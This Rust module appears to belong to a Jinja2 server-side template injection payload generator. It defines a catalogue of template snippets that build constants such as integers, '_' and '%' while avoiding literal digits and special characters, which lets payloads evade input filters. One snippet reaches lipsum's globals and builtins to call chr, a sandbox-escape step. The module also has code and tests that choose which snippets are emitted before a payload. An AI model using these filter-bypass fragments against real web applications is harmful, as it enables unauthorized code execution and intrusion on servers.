//! Preamble snippets that bind short variable names to constants.
//!
//! A payload may reference `e` instead of deriving `3` inline, as long as the
//! snippet `{%set e=...%}` is emitted before it. Only accepted snippets are
//! offered to rules, and only snippets whose variables a payload uses are
//! emitted with it.

use std::collections::BTreeSet;

use serde::Serialize;
use tracing::debug;

use crate::core::capability::{Constant, Constants};

/// A preamble snippet and the variables it binds.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ContextEntry {
    pub snippet: String,
    pub bindings: Constants,
}

impl ContextEntry {
    pub fn new<'a>(
        snippet: impl Into<String>,
        bindings: impl IntoIterator<Item = (&'a str, Constant)>,
    ) -> Self {
        Self {
            snippet: snippet.into(),
            bindings: bindings
                .into_iter()
                .map(|(name, value)| (name.to_string(), value))
                .collect(),
        }
    }

    fn binds_any(&self, used: &BTreeSet<String>) -> bool {
        self.bindings.keys().any(|name| used.contains(name))
    }
}

const PERCENT_VIA_CHR: &str = concat!(
    "{%set percc=(lipsum[((({}|select()|trim|list)[24]))*2+",
    "dict(globals=x)|join+((({}|select()|trim|list)[24]))*2][((({}|select()",
    "|trim|list)[24]))*2+dict(builtins=x)|join+((({}|select()|trim|list",
    ")[24]))*2][dict(chr=x)|join](37))%}",
);

/// The built-in catalogue, in emission order.
pub fn catalogue() -> Vec<ContextEntry> {
    use Constant::Int;
    vec![
        ContextEntry::new(
            concat!(
                "{%set oa={}|int%}{%set la=oa**oa%}{%set lla=(la~la)|int%}",
                "{%set llla=(lla~la)|int%}{%set lllla=(llla~la)|int%}",
            ),
            [
                ("oa", Int(0)),
                ("la", Int(1)),
                ("lla", Int(11)),
                ("llla", Int(111)),
                ("lllla", Int(1111)),
            ],
        ),
        ContextEntry::new(
            concat!(
                "{%set ob={}|int%}{%set lb=ob**ob%}{%set llb=(lb~lb)|int%}",
                "{%set lllb=(llb~lb)|int%}{%set llllb=(lllb~lb)|int%}",
                "{%set bb=llb-lb-lb-lb-lb-lb%}{%set sbb=lllb-llb-llb-llb-llb-llb%}",
                "{%set ssbb=llllb-lllb-lllb-lllb-lllb-lllb%}",
                "{%set zzeb=llllb-lllb-lllb-lllb-lllb-lllb-lllb-lllb-lllb%}",
            ),
            [
                ("ob", Int(0)),
                ("lb", Int(1)),
                ("llb", Int(11)),
                ("lllb", Int(111)),
                ("llllb", Int(1111)),
                ("bb", Int(6)),
                ("sbb", Int(56)),
                ("ssbb", Int(556)),
                ("zzeb", Int(223)),
            ],
        ),
        ContextEntry::new(
            "{%set zols=lipsum|escape|urlencode|list|escape|urlencode|count%}",
            [("zols", Int(2015))],
        ),
        ContextEntry::new(
            "{%set ltr={}|escape|urlencode|list|escape|urlencode|count%}",
            [("ltr", Int(178))],
        ),
        ContextEntry::new(
            "{%set lea=namespace|escape|urlencode|escape|urlencode|urlencode|urlencode|count%}",
            [("lea", Int(134))],
        ),
        ContextEntry::new(
            "{%set lel=cycler|escape|urlencode|escape|urlencode|escape|urlencode|escape|urlencode|count%}",
            [("lel", Int(131))],
        ),
        ContextEntry::new(
            "{%set qo=namespace|escape|urlencode|escape|urlencode|count%}",
            [("qo", Int(90))],
        ),
        ContextEntry::new("{%set bs=cycler|escape|urlencode|count%}", [("bs", Int(65))]),
        ContextEntry::new("{%set ab=namespace|escape|count%}", [("ab", Int(46))]),
        ContextEntry::new("{%set zb={}|escape|list|escape|count%}", [("zb", Int(26))]),
        ContextEntry::new("{%set t=joiner|urlencode|wordcount%}", [("t", Int(7))]),
        ContextEntry::new("{%set b={}|escape|urlencode|count%}", [("b", Int(6))]),
        ContextEntry::new("{%set e=(dict(a=x,b=x,c=x)|count)%}", [("e", Int(3))]),
        ContextEntry::new("{%set l={}|escape|first|count%}", [("l", Int(1))]),
        ContextEntry::new(
            "{%set un=((({}|select()|trim|list)[24]))%}",
            [("un", Constant::str("_"))],
        ),
        ContextEntry::new(
            "{%set unn=(lipsum|escape|batch(22)|list|first|last)%}",
            [("unn", Constant::str("_"))],
        ),
        ContextEntry::new(
            "{%set perc=(lipsum()|urlencode|first)%}",
            [("perc", Constant::str("%"))],
        ),
        ContextEntry::new(PERCENT_VIA_CHR, [("percc", Constant::str("%"))]),
    ]
}

/// The accepted subset of the catalogue plus caller-registered entries.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ContextVarManager {
    accepted: Vec<ContextEntry>,
}

impl ContextVarManager {
    /// Keep the entries whose snippet passes `accepts`, preserving order.
    pub fn filter_accepted(
        entries: Vec<ContextEntry>,
        mut accepts: impl FnMut(&str) -> bool,
    ) -> Self {
        let total = entries.len();
        let accepted: Vec<ContextEntry> = entries
            .into_iter()
            .filter(|entry| accepts(&entry.snippet))
            .collect();
        debug!(accepted = accepted.len(), total, "filtered context catalogue");
        Self { accepted }
    }

    pub fn accepted(&self) -> &[ContextEntry] {
        &self.accepted
    }

    /// Every bound name with its value. Earlier entries win on name clashes.
    pub fn constants(&self) -> Constants {
        let mut constants = Constants::new();
        for entry in &self.accepted {
            for (name, value) in &entry.bindings {
                constants
                    .entry(name.clone())
                    .or_insert_with(|| value.clone());
            }
        }
        constants
    }

    /// Accepted entries binding at least one of `used`, in catalogue order.
    pub fn entries_for<'a>(
        &'a self,
        used: &'a BTreeSet<String>,
    ) -> impl Iterator<Item = &'a ContextEntry> {
        self.accepted.iter().filter(move |entry| entry.binds_any(used))
    }

    /// Preamble text for a payload that uses `used`.
    pub fn preamble_for(&self, used: &BTreeSet<String>) -> String {
        self.entries_for(used)
            .map(|entry| entry.snippet.as_str())
            .collect()
    }

    /// Register an entry accepted by some other means. An entry with the same
    /// snippet has its bindings extended instead.
    pub fn add(&mut self, entry: ContextEntry) {
        match self
            .accepted
            .iter_mut()
            .find(|existing| existing.snippet == entry.snippet)
        {
            Some(existing) => existing.bindings.extend(entry.bindings),
            None => self.accepted.push(entry),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn used(names: &[&str]) -> BTreeSet<String> {
        names.iter().map(|name| name.to_string()).collect()
    }

    #[test]
    fn catalogue_names_are_unique() {
        let mut seen = BTreeSet::new();
        for entry in catalogue() {
            for name in entry.bindings.keys() {
                assert!(seen.insert(name.clone()), "{name} bound twice");
            }
        }
    }

    #[test]
    fn filter_keeps_catalogue_order() {
        let manager = ContextVarManager::filter_accepted(catalogue(), |snippet| {
            !snippet.chars().any(|c| c.is_ascii_digit())
        });
        let first = manager.accepted().first().expect("entries survive");
        assert!(first.bindings.contains_key("oa"));
        assert!(!manager.constants().contains_key("un"));
        assert_eq!(manager.constants().get("e"), Some(&Constant::Int(3)));
    }

    #[test]
    fn preamble_contains_exactly_used_entries() {
        let manager = ContextVarManager::filter_accepted(catalogue(), |_| true);
        let preamble = manager.preamble_for(&used(&["e", "la"]));
        assert!(preamble.starts_with("{%set oa={}|int%}"));
        assert!(preamble.ends_with("{%set e=(dict(a=x,b=x,c=x)|count)%}"));
        assert_eq!(manager.entries_for(&used(&["e", "la"])).count(), 2);
        assert!(manager.preamble_for(&BTreeSet::new()).is_empty());
    }

    #[test]
    fn add_merges_same_snippet() {
        let mut manager = ContextVarManager::default();
        manager.add(ContextEntry::new("{%set a=1%}", [("a", Constant::Int(1))]));
        manager.add(ContextEntry::new("{%set a=1%}", [("aa", Constant::Int(1))]));
        assert_eq!(manager.accepted().len(), 1);
        assert_eq!(manager.constants().len(), 2);
    }
}
